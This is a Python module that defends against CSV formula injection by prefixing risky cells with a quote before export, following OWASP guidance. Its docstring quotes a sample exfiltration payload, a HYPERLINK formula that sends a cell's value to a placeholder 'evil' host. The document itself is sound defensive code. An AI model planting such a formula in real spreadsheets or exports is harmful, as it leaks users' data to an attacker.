"""CSV cells a spreadsheet reads as text, never as a formula.

A note that says ``=HYPERLINK("http://evil/?"&A1, "open")`` or ``@SUM(A1)``
is the user's (or a customer's) words; opened in Excel, LibreOffice or Google
Sheets, a cell starting so would run. Every CSV callmate writes (the
``csv`` export and the CRM formats) goes through :func:`neutralised`, as
OWASP advises: "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
(a cell beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage return
gets a single quote in front, which the spreadsheet shows as text and
drops from the value it displays).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""

BOM = "\ufeff"
"""What ``--bom`` puts first, so Excel reads the file as UTF-8 (not the
system's code page) and accents and emoji come out whole."""


def neutralised(cell: str) -> str:
    """``cell`` with a ``'`` in front if a spreadsheet would read it as a formula."""
    if cell and cell.startswith(FORMULA_LEADS):
        return "'" + cell
    return cell


class SafeWriter:
    """:func:`csv.writer` whose every text cell is :func:`neutralised` first
    (numbers are written as they are: they can't be a formula)."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralised(c) if isinstance(c, str) else c for c in row])


def csv_file_chunks(
    headers: list[list[str]], rows: Iterable[tuple[int, list[Any]]]
) -> Iterator[tuple[int, str]]:
    """CSV files in pieces, written in one pass over the rows: ``(file, text)``,
    each file's header first, then each row to the file it names as it comes
    (never a whole file in memory). ``\r\n`` line ends, as RFC 4180 and the
    CRMs' importers expect; a newline inside a cell is kept (the cell is quoted)."""
    out = io.StringIO()
    writer = SafeWriter(out)

    def taken() -> str:
        text = out.getvalue()
        out.seek(0)
        out.truncate()
        return text

    for index, header in enumerate(headers):
        writer.writerow(header)
        yield index, taken()
    for index, row in rows:
        writer.writerow(row)
        yield index, taken()
